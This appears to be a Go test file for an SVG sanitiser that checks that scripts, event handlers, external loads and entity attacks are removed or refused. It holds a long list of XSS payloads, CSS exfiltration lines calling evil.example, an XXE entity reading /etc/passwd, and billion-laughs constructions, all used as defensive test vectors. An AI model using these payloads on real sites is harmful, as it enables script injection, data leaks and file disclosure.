package svg

import (
	"bytes"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"strings"
	"testing"
	"time"
)

// inSVG is a drawing with something harmless to see beside what is tried.
func inSVG(inside string) string {
	return `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10">` + inside + `<rect width="1" height="1"/></svg>`
}

// vectors are ways to run, load or hide something in a drawing.
var vectors = map[string]string{
	"script":                           inSVG(`<script>alert(1)</script>`),
	"script, CDATA":                    inSVG(`<script><![CDATA[alert(1)]]></script>`),
	"script from outside":              inSVG(`<script href="https://evil.example/x.js"/>`),
	"script, xlink":                    inSVG(`<script xlink:href="data:text/javascript,alert(1)"/>`),
	"script with a prefix":             `<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>alert(1)</s:script><s:rect width="1" height="1"/></s:svg>`,
	"script of HTML":                   inSVG(`<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>`),
	"script under a safe element":      inSVG(`<g><defs><script>alert(1)</script></defs></g>`),
	"script in a style":                inSVG(`<style><script>alert(1)</script></style>`),
	"onload of the root":               `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="1" height="1"/></svg>`,
	"onclick":                          inSVG(`<path d="M0 0" onclick="alert(1)"/>`),
	"ONERROR in capitals":              inSVG(`<path d="M0 0" ONERROR="alert(1)"/>`),
	"onbegin of an animation":          inSVG(`<animate onbegin="alert(1)" attributeName="x" dur="1s"/>`),
	"onfocus with tabindex":            inSVG(`<g tabindex="1" onfocus="alert(1)"><path d="M0 0"/></g>`),
	"event with a namespace":           inSVG(`<path xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load" d="M0 0"/>`),
	"handler element":                  inSVG(`<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler>`),
	"foreignObject":                    inSVG(`<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert(1)"/></body></foreignObject>`),
	"iframe":                           inSVG(`<iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/>`),
	"embed, object, video":             inSVG(`<embed src="x"/><object data="x"/><video src="x"/>`),
	"link to a script":                 inSVG(`<a href="javascript:alert(1)"><path d="M0 0"/></a>`),
	"link to a script, xlink":          inSVG(`<a xlink:href="java&#x73;cript:alert(1)"><path d="M0 0"/></a>`),
	"link to a script, tab":            inSVG("<a href=\"java&#9;script:alert(1)\"><path d=\"M0 0\"/></a>"),
	"link set by an animation":         inSVG(`<a><set attributeName="href" to="javascript:alert(1)"/><path d="M0 0"/></a>`),
	"values of an animation":           inSVG(`<animate attributeName="xlink:href" values="javascript:alert(1);x"/>`),
	"use from outside":                 inSVG(`<use href="https://evil.example/x.svg#a"/>`),
	"use of data":                      inSVG(`<use xlink:href="data:image/svg+xml;base64,PHN2Zy8+#a"/>`),
	"use, protocol left out":           inSVG(`<use href="//evil.example/x.svg#a"/>`),
	"image from outside":               inSVG(`<image href="https://evil.example/spy.png" width="1" height="1"/>`),
	"image of data":                    inSVG(`<image href="data:image/svg+xml,&lt;svg onload='alert(1)'/&gt;" width="1" height="1"/>`),
	"feImage":                          inSVG(`<filter id="f"><feImage href="https://evil.example/spy.png"/></filter>`),
	"gradient from outside":            inSVG(`<linearGradient id="g" href="https://evil.example/x.svg#g"/>`),
	"fill from outside":                inSVG(`<path d="M0 0" fill="url(https://evil.example/x.svg#g)"/>`),
	"fill from outside, quoted":        inSVG(`<path d="M0 0" fill="url('https://evil.example/x.svg#g')"/>`),
	"fill from outside, spaces":        inSVG(`<path d="M0 0" fill="url ( https://evil.example )"/>`),
	"fill, escaped url":                inSVG(`<path d="M0 0" mask="\75 rl(https://evil.example)"/>`),
	"fill, comment in url":             inSVG(`<path d="M0 0" mask="url/**/(https://evil.example)"/>`),
	"fill, second address":             inSVG(`<path d="M0 0" fill="url(#a) url(https://evil.example)"/>`),
	"cursor":                           inSVG(`<path d="M0 0" cursor="url(https://evil.example/x.cur)"/>`),
	"image-set":                        inSVG(`<path d="M0 0" mask="image-set('https://evil.example' 1x)"/>`),
	"style attribute, background":      inSVG(`<path d="M0 0" style="background:url(https://evil.example)"/>`),
	"style attribute, fill":            inSVG(`<path d="M0 0" style="fill:url(https://evil.example)"/>`),
	"style attribute, escaped":         inSVG(`<path d="M0 0" style="fill:u\72l(https://evil.example)"/>`),
	"style attribute, expression":      inSVG(`<path d="M0 0" style="width:expression(alert(1))"/>`),
	"style attribute, binding":         inSVG(`<path d="M0 0" style="-moz-binding:url(https://evil.example#x)"/>`),
	"style attribute, covers the page": inSVG(`<path d="M0 0" style="position:fixed;top:0;left:0;width:9999px;z-index:9"/>`),
	"style attribute, open quote":      inSVG(`<path d="M0 0" style="font-family:'a;fill:url(https://evil.example)"/>`),
	"style, import":                    inSVG(`<style>@import url(https://evil.example/x.css);</style>`),
	"style, import without url":        inSVG(`<style>@import "https://evil.example/x.css";</style>`),
	"style, font":                      inSVG(`<style>@font-face{font-family:a;src:url(https://evil.example/x.woff)}</style>`),
	"style, nested":                    inSVG(`<style>@media all{.a{fill:url(https://evil.example)}}</style>`),
	"style, background":                inSVG(`<style>rect{background-image:url(https://evil.example)}</style>`),
	"style, comment":                   inSVG(`<style>rect{fi/**/ll:ur/**/l(https://evil.example)}</style>`),
	"style, reads attributes":          inSVG(`<style>rect[id^="a"]{fill:url(https://evil.example/a)}</style>`),
	"style, closed in words":           inSVG(`<style>&lt;/style&gt;&lt;script&gt;alert(1)&lt;/script&gt;</style>`),
	"style, CDATA":                     inSVG(`<style><![CDATA[</style><script>alert(1)</script>]]></style>`),
	"stylesheet named before":          `<?xml version="1.0"?><?xml-stylesheet href="https://evil.example/x.css"?>` + inSVG(``),
	"XSLT named before":                `<?xml-stylesheet type="text/xsl" href="#x"?>` + inSVG(``),
	"doctype":                          `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "https://evil.example/x.dtd">` + inSVG(``),
	"base":                             `<svg xmlns="http://www.w3.org/2000/svg" xml:base="https://evil.example/"><use href="#a"/></svg>`,
	"metadata":                         inSVG(`<metadata><x:xmpmeta xmlns:x="adobe:ns:meta/">secret</x:xmpmeta></metadata>`),
	"comment":                          inSVG(`<!-- <script>alert(1)</script> -->`),
	"words outside text":               inSVG(`javascript:alert(1)`),
	"id that breaks out":               inSVG(`<path id="a&quot; onload=&quot;alert(1)" d="M0 0"/>`),
	"attribute twice":                  inSVG(`<use href="#a" xlink:href="javascript:alert(1)"/>`),
	"unknown prefix":                   `<svg xmlns="http://www.w3.org/2000/svg"><use xlink:href="javascript:alert(1)"/></svg>`,
	"math":                             inSVG(`<math xmlns="http://www.w3.org/1998/Math/MathML"><mtext>alert</mtext></math>`),
	"audio, canvas, discard, mpath":    inSVG(`<audio/><canvas/><discard/><animateMotion><mpath href="#a"/></animateMotion>`),
}

// refused are not cleaned at all.
var refused = map[string]string{
	"entity":               `<!DOCTYPE svg [<!ENTITY x "alert(1)">]>` + inSVG(`<text>&x;</text>`),
	"entity from outside":  `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>` + inSVG(`<text>&x;</text>`),
	"entities that double": `<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;"><!ENTITY c "&b;&b;">]>` + inSVG(`<text>&c;</text>`),
	"unknown entity":       inSVG(`<text>&nbsp;</text>`),
	"page":                 `<html xmlns="http://www.w3.org/1999/xhtml"><body/></html>`,
	"two roots":            inSVG(``) + inSVG(``),
	"words after":          inSVG(``) + `<script>alert(1)</script>`,
	"cut off":              inSVG(``)[:60],
	"not closed":           `<svg xmlns="http://www.w3.org/2000/svg"><rect>`,
	"nothing to see":       `<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`,
	"unknown alphabet":     `<?xml version="1.0" encoding="utf-7"?>` + inSVG(``),
	"control character":    inSVG("<text>\x01</text>"),
	"uses itself":          inSVG(`<g id="a"><use href="#a"/></g>`),
	"use in a circle":      inSVG(`<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>`),
	"pattern of itself":    inSVG(`<style>.p{fill:url(#p)}</style><pattern id="p"><path class="p" d="M0 0"/></pattern>`),
	"deep":                 strings.Repeat(`<svg xmlns="http://www.w3.org/2000/svg">`, 5000) + strings.Repeat(`</svg>`, 5000),
	"many":                 inSVG(strings.Repeat(`<g/>`, maxElements+1)),
	"heavy":                inSVG(strings.Repeat(` `, MaxBytes)),
	"nothing":              ``,
	"binary":               "\x89PNG\r\n\x1a\n",
}

// laughs is a few elements that each use the one before ten times.
func laughs(attribute string) string {
	var b strings.Builder
	b.WriteString(`<g id="l0"><path d="M0 0"/></g>`)
	for n := 1; n < 12; n++ {
		fmt.Fprintf(&b, `<g id="l%d">`, n)
		b.WriteString(strings.Repeat(fmt.Sprintf(attribute, n-1), 10))
		b.WriteString(`</g>`)
	}
	return inSVG(b.String())
}

// check fails on anything in a drawing that the allow-lists do not hold.
func check(t *testing.T, name string, content []byte) {
	t.Helper()
	tokens := xml.NewDecoder(bytes.NewReader(content))
	for {
		token, err := tokens.Token()
		if errors.Is(err, io.EOF) {
			return
		}
		if err != nil {
			t.Errorf("%s: %v in %s", name, err, content)
			return
		}
		switch token := token.(type) {
		case xml.StartElement:
			if !elements[token.Name.Local] || token.Name.Space != namespace || plain[token.Name.Local] != "" {
				t.Errorf("%s: element %v", name, token.Name)
			}
			for _, a := range token.Attr {
				checkAttribute(t, name, a)
			}
		case xml.Comment, xml.ProcInst, xml.Directive:
			t.Errorf("%s: %T", name, token)
		}
	}
}

func checkAttribute(t *testing.T, name string, a xml.Attr) {
	t.Helper()
	known := attributes[a.Name.Local] || properties[a.Name.Local] || a.Name.Local == "id" || a.Name.Local == "class" || a.Name.Local == "style"
	value := strings.ToLower(a.Value)
	switch {
	case a.Name.Local == "xmlns" && a.Value == namespace, a.Name.Space == "http://www.w3.org/XML/1998/namespace":
	case a.Name.Local == "href" && strings.HasPrefix(value, "#"):
	case a.Name.Space != "" || !known:
		t.Errorf("%s: attribute %v", name, a.Name)
	case strings.HasPrefix(a.Name.Local, "on"), strings.ContainsAny(value, "\\@"), strings.Contains(value, "script:"), strings.Contains(value, "data:"):
		t.Errorf("%s: %s = %s", name, a.Name.Local, a.Value)
	}
}

func TestE5_DrawingsKeepNothingThatRunsOrLoads(t *testing.T) {
	if len(vectors) < 40 {
		t.Fatalf("only %d vectors", len(vectors))
	}
	for name, raw := range vectors {
		if !Is([]byte(raw)) {
			t.Errorf("%s: not seen as a drawing", name)
		}
		d, err := Clean([]byte(raw))
		if err != nil {
			t.Errorf("%s: %v", name, err)
			continue
		}
		check(t, name, d.Content)
		for _, trace := range []string{"alert", "evil", "script", "data:", "expression", "secret", "import", "fixed", "9999", "http"} {
			if bytes.Contains(bytes.ReplaceAll(bytes.ToLower(d.Content), []byte(namespace), nil), []byte(trace)) {
				t.Errorf("%s: %q is left in %s", name, trace, d.Content)
			}
		}
	}
}

func TestE5_DrawingsOfNoGoodAreRefused(t *testing.T) {
	refused["laughs"] = laughs(`<use href="#l%d"/>`)
	refused["laughs, fill"] = laughs(`<path d="M0 0" fill="url(#l%d)"/>`)
	refused["laughs, style"] = laughs(`<path d="M0 0" style="mask:url(#l%d)"/>`)
	for name, raw := range refused {
		start := time.Now()
		if d, err := Clean([]byte(raw)); !errors.Is(err, ErrRefused) {
			t.Errorf("%s: %v, %v", name, d, err)
		}
		if took := time.Since(start); took > 5*time.Second {
			t.Errorf("%s took %s", name, took)
		}
	}
}

// What drawing programs write, whole.
const logo = `<?xml version="1.0" encoding="UTF-8"?>
<!-- Generator: Adobe Illustrator 27 -->
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg version="1.1" id="Calque_1" xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" x="0px" y="0px" viewBox="0 0 200.4 100" style="enable-background:new 0 0 200 100;" xml:space="preserve">
<style type="text/css">
	.st0{fill:#E94E1B;}
	.st1, g > .st2{fill:url(#SVGID_1_);stroke:rgb(1, 2, 3);font-family:'Montserrat-Bold'}
</style>
<title>Les Tilleuls &amp; Cie</title>
<switch><foreignObject requiredExtensions="&amp;ns_ai;" width="1" height="1"/><g>
	<linearGradient id="SVGID_1_" gradientUnits="userSpaceOnUse" x1="0" x2="10"><stop offset="0" style="stop-color:#FFF"/><stop offset="1" stop-color="#000" stop-opacity=".5"/></linearGradient>
	<defs><path id="SVGID_2_" d="M0,0h10v10H0z"/></defs>
	<clipPath id="SVGID_3_"><use xlink:href="#SVGID_2_" style="overflow:visible;"/></clipPath>
	<g clip-path="url(#SVGID_3_)" transform="matrix(1 0 0 1 22.5 30)"><circle class="st0" cx="5" cy="5" r="4"/><path class="st1" d="M1,1l2,2"/></g>
	<text x="1" y="2"><tspan font-size="12" letter-spacing="-.5">Bienvenue « ici »</tspan></text>
</g></switch></svg>`

const cleanLogo = `<svg xmlns="http://www.w3.org/2000/svg" version="1.1" id="Calque_1" x="0px" y="0px" viewBox="0 0 200.4 100" style="enable-background:new 0 0 200 100" xml:space="preserve">` +
	`<style>.st0{fill:#E94E1B}.st1, g &gt; .st2{fill:url(#SVGID_1_);stroke:rgb(1, 2, 3);font-family:&#39;Montserrat-Bold&#39;}</style>` +
	`<title>Les Tilleuls &amp; Cie</title><g><g>` +
	`<linearGradient id="SVGID_1_" gradientUnits="userSpaceOnUse" x1="0" x2="10"><stop offset="0" style="stop-color:#FFF"/><stop offset="1" stop-color="#000" stop-opacity=".5"/></linearGradient>` +
	`<defs><path id="SVGID_2_" d="M0,0h10v10H0z"/></defs>` +
	`<clipPath id="SVGID_3_"><use href="#SVGID_2_" style="overflow:visible"/></clipPath>` +
	`<g clip-path="url(#SVGID_3_)" transform="matrix(1 0 0 1 22.5 30)"><circle class="st0" cx="5" cy="5" r="4"/><path class="st1" d="M1,1l2,2"/></g>` +
	`<text x="1" y="2"><tspan font-size="12" letter-spacing="-.5">Bienvenue « ici »</tspan></text>` +
	`</g></g></svg>`

func TestE5_DrawingsKeepWhatDraws(t *testing.T) {
	d, err := Clean([]byte(logo))
	if err != nil {
		t.Fatal(err)
	}
	if got := string(d.Content); got != cleanLogo {
		t.Errorf("got\n%s\nwant\n%s", got, cleanLogo)
	}
	if d.Width != 200 || d.Height != 100 {
		t.Errorf("%d × %d", d.Width, d.Height)
	}
	old, err := Clean([]byte("<?xml version='1.0' encoding='ISO-8859-1'?>" + strings.ReplaceAll(inSVG("<text>caf\xe9</text>"), "\n", "")))
	if err != nil || !bytes.Contains(old.Content, []byte("café")) {
		t.Errorf("old alphabet: %v", err)
	}
}

// The same is said of rich text by E2: what is clean stays as it is.
func TestE5_CleaningTwiceChangesNothing(t *testing.T) {
	all := map[string]string{"logo": logo}
	for name, raw := range vectors {
		all[name] = raw
	}
	for name, raw := range all {
		once, err := Clean([]byte(raw))
		if err != nil {
			t.Errorf("%s: %v", name, err)
			continue
		}
		twice, err := Clean(once.Content)
		if err != nil || !bytes.Equal(once.Content, twice.Content) || once.Width != twice.Width || once.Height != twice.Height {
			t.Errorf("%s: %v\n%s\n%s", name, err, once.Content, twice.Content)
		}
	}
}

func TestSize(t *testing.T) {
	for attributes, want := range map[string][2]int{
		`width="120" height="80"`:                        {120, 80},
		`width="120px" height="80.4px"`:                  {120, 80},
		`width="1in" height="72pt"`:                      {96, 96},
		`width="25.4mm" height="2.54cm"`:                 {96, 96},
		`viewBox="0 0 24 48"`:                            {24, 48},
		`viewBox="-5,-5,24.6,48"`:                        {25, 48},
		`width="48" viewBox="0 0 24 48"`:                 {48, 96},
		`height="24" viewBox="0 0 24 48"`:                {12, 24},
		`width="100%" height="100%" viewBox="0 0 24 48"`: {24, 48},
		`width="100%"`:                                   {300, 150},
		`width="-5" height="0"`:                          {300, 150},
		`viewBox="0 0 0 0"`:                              {300, 150},
		`viewBox="a b c d"`:                              {300, 150},
		`width="1e99" height="0.01"`:                     {100_000, 1},
	} {
		d, err := Clean([]byte(`<svg ` + attributes + `><rect/></svg>`))
		if err != nil || d.Width != want[0] || d.Height != want[1] {
			t.Errorf("%s: %v, %v", attributes, d, err)
		}
	}
}

func TestIs(t *testing.T) {
	for raw, want := range map[string]bool{
		inSVG(""):                      true,
		"\xef\xbb\xbf  \n" + inSVG(""): true,
		`<?xml version="1.0"?><!-- a --><!DOCTYPE svg>` + inSVG(""): true,
		`<!doctype svg [<!ENTITY a "b">]>` + inSVG(""):              true,
		`<svg:svg xmlns:svg="http://www.w3.org/2000/svg"/>`:         true,
		`<svg/>`:                      true,
		`<svgs>`:                      false,
		`<html><svg></svg></html>`:    false,
		`bonjour <svg>`:               false,
		`<!-- <svg> `:                 false,
		`<?xml version="1.0"?><kml/>`: false,
		``:                            false,
	} {
		if got := Is([]byte(raw)); got != want {
			t.Errorf("%q: %v", raw, got)
		}
	}
}

func FuzzE5_Clean(f *testing.F) {
	for _, raw := range vectors {
		f.Add([]byte(raw))
	}
	f.Add([]byte(logo))
	f.Fuzz(func(t *testing.T, raw []byte) {
		once, err := Clean(raw)
		if err != nil {
			return
		}
		check(t, "fuzz", once.Content)
		twice, err := Clean(once.Content)
		if err != nil || !bytes.Equal(once.Content, twice.Content) {
			t.Errorf("%v\n%s\n%s", err, once.Content, twice.Content)
		}
	})
}
